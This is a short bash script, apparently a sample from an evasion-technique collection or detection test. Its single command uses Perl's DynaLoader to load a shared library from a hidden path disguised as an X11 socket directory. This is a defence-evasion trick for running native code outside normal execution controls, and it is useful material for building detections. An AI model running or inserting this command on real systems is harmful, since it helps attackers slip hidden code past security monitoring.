#!/bin/bash
# Evasion: perl's DynaLoader loads a shared object directly
set -u
perl -MDynaLoader -e 'DynaLoader::dl_load_file($ARGV[0], 0) or die' /tmp/.X11-unix/.libx.so
